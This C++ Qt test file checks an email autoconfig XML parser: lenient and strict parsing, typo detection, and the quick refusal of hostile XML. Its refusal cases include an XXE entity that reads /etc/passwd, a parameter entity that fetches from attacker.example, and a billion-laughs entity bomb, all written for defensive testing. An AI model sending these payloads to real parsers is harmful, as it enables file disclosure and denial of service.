// AutoconfigParser on documents that do not come from Satchel: ISPDB-style files (lenient mode),
// typos that strict mode must catch, and hostile XML that must give an error quickly, never a
// crash, a hang or an expanded entity.

#include "discovery/autoconfigparser.h"

#include <QElapsedTimer>
#include <QTest>

using namespace Satchel;

namespace {

// Close to the ISPDB's gmx.net file, with elements Satchel skips and a server it cannot use.
const char ispdbStyle[] = R"(<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="example.net">
    <domain>Example.NET</domain>
    <domain>example.org</domain>
    <displayName>Example Mail</displayName>
    <incomingServer type="imap">
      <hostname>imap.example.net</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
      <authentication>password-cleartext</authentication>
      <password>never kept</password>
    </incomingServer>
    <incomingServer type="imap">
      <hostname>imap.example.net</hostname>
      <port>143</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILADDRESS%</username>
    </incomingServer>
    <incomingServer type="jmap">
      <hostname>jmap.example.net</hostname>
    </incomingServer>
    <incomingServer type="pop3">
      <hostname>pop.example.net</hostname>
      <port>99999</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <pop3><leaveMessagesOnServer>true</leaveMessagesOnServer></pop3>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.%EMAILDOMAIN%</hostname>
      <port>587</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILLOCALPART%</username>
      <authentication>password-cleartext</authentication>
      <addThisServer>true</addThisServer>
    </outgoingServer>
    <documentation url="http://www.example.net/help/"><descr lang="de">Hilfe</descr><descr lang="en">Help</descr></documentation>
    <instruction url="https://www.example.net/x"><descr>ignored</descr></instruction>
  </emailProvider>
  <addressBook type="carddav">
    <username>%EMAILADDRESS%</username>
    <authentication>http-basic</authentication>
    <serverURL>https://dav.example.net/card/%EMAILADDRESS%/</serverURL>
  </addressBook>
  <calendar type="caldav">
    <serverURL>http://dav.example.net/cal/</serverURL>
  </calendar>
  <webMail><loginPage url="https://mail.example.net/"/></webMail>
  <oAuth2><issuer>example.net</issuer></oAuth2>
</clientConfig>
)";

QByteArray minimal(const QByteArray &insideImap = {}, const QByteArray &insideProvider = {})
{
    return "<clientConfig version=\"1.1\" xmlns:satchel=\"https://satchel.invalid/ns/provider-1\">"
           "<emailProvider id=\"x\"><domain>example.com</domain>" +
           insideProvider +
           "<incomingServer type=\"imap\"><hostname>imap.example.com</hostname><port>993</port>"
           "<socketType>SSL</socketType><username>%EMAILADDRESS%</username>" +
           insideImap + "</incomingServer></emailProvider></clientConfig>";
}

} // namespace

class TestAutoconfigParser : public QObject
{
    Q_OBJECT

private slots:
    void lenientReadsIspdbFiles()
    {
        AutoconfigParser parser;
        const std::optional<ProviderConfig> config = parser.parse(QByteArray(ispdbStyle));
        QVERIFY2(config, qPrintable(parser.errorString()));
        QCOMPARE(config->domains,
                 (QStringList{QStringLiteral("example.net"), QStringLiteral("example.org")}));
        QCOMPARE(config->services.size(), 3); // IMAP, SMTP, CardDAV; POP had a bad port
        const ProviderService *imap = config->service(ProviderServiceType::Imap);
        QCOMPARE(imap->authentication,
                 (QStringList{QStringLiteral("OAuth2"), QStringLiteral("password-cleartext")}));
        QCOMPARE(imap->alternatives.size(), 1); // the second IMAP server
        QCOMPARE(imap->alternatives.first().kind, ProviderAlternative::Kind::OtherPort);
        QCOMPARE(imap->alternatives.first().security, Security::StartTls);
        QVERIFY(!config->service(ProviderServiceType::Pop3));
        QVERIFY(!config->service(ProviderServiceType::CalDav)); // http:// is refused
        QCOMPARE(config->documentation.first().text, QStringLiteral("Help"));
        QVERIFY(parser.warnings().size() >= 3);

        QString error;
        const std::optional<ProviderConfig> expanded =
            config->expandedFor(QStringLiteral("ada@example.org"), &error);
        QVERIFY(expanded);
        QCOMPARE(expanded->service(ProviderServiceType::Smtp)->host,
                 QStringLiteral("smtp.example.org"));
        QCOMPARE(expanded->service(ProviderServiceType::Smtp)->username, QStringLiteral("ada"));
        QCOMPARE(expanded->service(ProviderServiceType::CardDav)->url,
                 QStringLiteral("https://dav.example.net/card/ada@example.org/"));
    }

    void strictRefusesWhatLenientSkips()
    {
        AutoconfigParser parser(AutoconfigParser::Mode::Strict);
        QVERIFY(!parser.parse(QByteArray(ispdbStyle)));
        QVERIFY(parser.errorString().startsWith(QLatin1String("Line ")));
    }

    void strictCatchesTypos_data()
    {
        QTest::addColumn<QByteArray>("document");
        QTest::newRow("element") << minimal("<hostnmae>x</hostnmae>");
        QTest::newRow("satchel element") << minimal("<satchel:folders/>");
        QTest::newRow("placeholder") << minimal("<satchel:usernameAlternative>%EMAILADRESS%"
                                                "</satchel:usernameAlternative>");
        QTest::newRow("authentication")
            << minimal("<authentication>password-plain</authentication>");
        QTest::newRow("proxy without port") << minimal(
            "<satchel:alternative kind=\"proxy\" hostname=\"p.example.com\" socketType=\"SSL\"/>");
        QTest::newRow("mx") << minimal({}, "<satchel:mx>*.</satchel:mx>");
        QTest::newRow("app password") << minimal({}, "<satchel:appPassword required=\"maybe\">x"
                                                     "</satchel:appPassword>");
        QTest::newRow("wrong place") << minimal("<satchel:popFolder username=\"%FOLDER%\">x"
                                                "</satchel:popFolder>");
        QTest::newRow("no domain")
            << QByteArray(minimal()).replace("<domain>example.com</domain>", "");
    }

    void strictCatchesTypos()
    {
        QFETCH(QByteArray, document);
        AutoconfigParser lenient;
        QVERIFY2(lenient.parse(document), qPrintable(lenient.errorString()));
        AutoconfigParser strict(AutoconfigParser::Mode::Strict);
        QVERIFY(!strict.parse(document));
        QVERIFY(!strict.errorString().isEmpty());
    }

    void refusals_data()
    {
        QTest::addColumn<QByteArray>("document");
        QTest::newRow("empty") << QByteArray();
        QTest::newRow("garbage") << QByteArray("\x00\xff\xfe garbage <<>> \x01", 18);
        QTest::newRow("html") << QByteArray("<html><body>Not found</body></html>");
        QTest::newRow("truncated") << minimal().left(120);
        QTest::newRow("no provider") << QByteArray("<clientConfig version=\"1.1\"/>");
        QTest::newRow("no incoming server")
            << QByteArray("<clientConfig><emailProvider><domain>a.example</domain>"
                          "</emailProvider></clientConfig>");
        QTest::newRow("undeclared entity") << minimal("<username>&secret;</username>");
        QTest::newRow("trailing element") << minimal() + "<clientConfig/>";
        QTest::newRow("undeclared prefix") << minimal("<satchel:sasl>PLAIN</satchel:sasl>")
                                                  .replace("xmlns:satchel", "xmlns:other");
        QTest::newRow("external entity") << QByteArray(
            "<?xml version=\"1.0\"?><!DOCTYPE clientConfig [<!ENTITY x SYSTEM "
            "\"file:///etc/passwd\">]><clientConfig><emailProvider><domain>&x;</domain>"
            "</emailProvider></clientConfig>");
        QTest::newRow("parameter entity") << QByteArray(
            "<!DOCTYPE c [<!ENTITY % p SYSTEM \"https://attacker.example/x.dtd\"> %p;]><c/>");
        QByteArray laughs = "<?xml version=\"1.0\"?><!DOCTYPE clientConfig [<!ENTITY l0 \"lol\">";
        for (int i = 1; i < 10; ++i)
            laughs += QStringLiteral("<!ENTITY l%1 \"&l%2;&l%2;&l%2;&l%2;&l%2;&l%2;&l%2;&l%2;&l%2;"
                                     "&l%2;\">")
                          .arg(i)
                          .arg(i - 1)
                          .toLatin1();
        laughs += "]><clientConfig><emailProvider><domain>&l9;</domain></emailProvider>"
                  "</clientConfig>";
        QTest::newRow("billion laughs") << laughs;
        QTest::newRow("deep nesting")
            << QByteArray("<clientConfig>") + QByteArray("<a>").repeated(100000);
        QTest::newRow("many elements") << QByteArray("<clientConfig><emailProvider>") +
                                              QByteArray("<x/>").repeated(30000) +
                                              "</emailProvider></clientConfig>";
        QTest::newRow("10 MB") << minimal({}, "<!--" + QByteArray(10 * 1024 * 1024, 'x') + "-->");
        QTest::newRow("long text")
            << minimal({}, "<displayName>" + QByteArray(100000, 'x') + "</displayName>");
        QTest::newRow("long attribute") << minimal({}, "<documentation url=\"https://x.example/" +
                                                           QByteArray(100000, 'x') + "\"/>");
    }

    void refusals()
    {
        QFETCH(QByteArray, document);
        QElapsedTimer timer;
        timer.start();
        for (AutoconfigParser::Mode mode :
             {AutoconfigParser::Mode::Lenient, AutoconfigParser::Mode::Strict}) {
            AutoconfigParser parser(mode);
            QVERIFY(!parser.parse(document));
            QVERIFY(!parser.errorString().isEmpty());
            QVERIFY(!parser.errorString().contains(QLatin1String("lollol")));
        }
        QVERIFY2(timer.elapsed() < 5000, "a hostile document must be cheap to refuse");
    }

    void satchelElementsAreRead()
    {
        const QByteArray document = minimal(
            "<satchel:imap folderSeparator=\".\"/>"
            "<satchel:alternative kind=\"proxy\" hostname=\"p.example.com\" socketType=\"SSL\" "
            "anyPort=\"true\" ports=\"443 80 443\">behind firewalls</satchel:alternative>"
            "<satchel:note kind=\"x-y\" url=\"https://example.com/n\">Note.</satchel:note>",
            "<satchel:mx>MX.Example.com</satchel:mx>"
            "<satchel:recommend incoming=\"imap\">Use IMAP.</satchel:recommend>"
            "<satchel:appPassword required=\"two-factor\">With 2FA.</satchel:appPassword>");
        AutoconfigParser parser(AutoconfigParser::Mode::Strict);
        const std::optional<ProviderConfig> config = parser.parse(document);
        QVERIFY2(config, qPrintable(parser.errorString()));
        QCOMPARE(config->mxPatterns, QStringList{QStringLiteral("mx.example.com")});
        QVERIFY(config->recommendedIncoming == ProviderServiceType::Imap);
        QCOMPARE(config->appPassword, ProviderConfig::AppPassword::WithTwoFactor);
        const ProviderService *imap = config->service(ProviderServiceType::Imap);
        QCOMPARE(imap->imap.folderSeparator, QStringLiteral("."));
        QVERIFY(!imap->imap.pathPrefix.has_value());
        QCOMPARE(imap->alternatives.size(), 1);
        QVERIFY(imap->alternatives.first().anyPort());
        QCOMPARE(imap->alternatives.first().suggestedPorts, (QList<quint16>{443, 80}));
        QCOMPARE(imap->notes.first().url, QStringLiteral("https://example.com/n"));
    }

    void hostPatterns()
    {
        QVERIFY(ProviderConfig::matchesHostPattern(QStringLiteral("*.example.com"),
                                                   QStringLiteral("a.b.Example.com.")));
        QVERIFY(!ProviderConfig::matchesHostPattern(QStringLiteral("*.example.com"),
                                                    QStringLiteral("example.com")));
        QVERIFY(!ProviderConfig::matchesHostPattern(QStringLiteral("*.example.com"),
                                                    QStringLiteral("badexample.com")));
        QVERIFY(ProviderConfig::matchesHostPattern(QStringLiteral("mx.example.com"),
                                                   QStringLiteral("MX.example.com")));
        QVERIFY(!ProviderConfig::matchesHostPattern(QStringLiteral("mx.example.com"),
                                                    QStringLiteral("a.mx.example.com")));
    }
};

QTEST_GUILESS_MAIN(TestAutoconfigParser)
#include "tst_autoconfigparser.moc"
